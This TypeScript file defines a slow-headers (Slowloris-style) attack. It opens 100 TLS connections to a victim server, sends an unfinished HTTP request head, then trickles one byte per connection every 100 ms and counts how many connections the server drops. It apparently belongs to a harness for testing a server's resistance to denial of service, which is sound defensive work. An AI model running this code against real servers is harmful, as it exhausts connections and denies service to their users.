import type { Attack } from '../attack.ts';
import { delay, ended } from '../connections.ts';

export const slowHeaders: Attack = {
  name: 'slow-headers',
  input: '100 clients send one byte of a request head every 100 ms',
  async run({ victim, connections, count, signal }) {
    const clients = await Promise.all(
      Array.from({ length: count(100) }, () => connections.connectTls(victim.port, { ALPNProtocols: ['http/1.1'] })),
    );
    let open = clients.length;
    for (const client of clients) void ended(client).then(() => open--);
    for (const client of clients) client.write('GET /pods HTTP/1.1\r\nHost: x\r\nX-Odd: ');
    while (open > 0 && !signal.aborted) {
      for (const client of clients) if (client.writable) client.write('a');
      await delay(100);
    }
    return { did: `${clients.length - open} of ${clients.length} connections were closed` };
  },
};
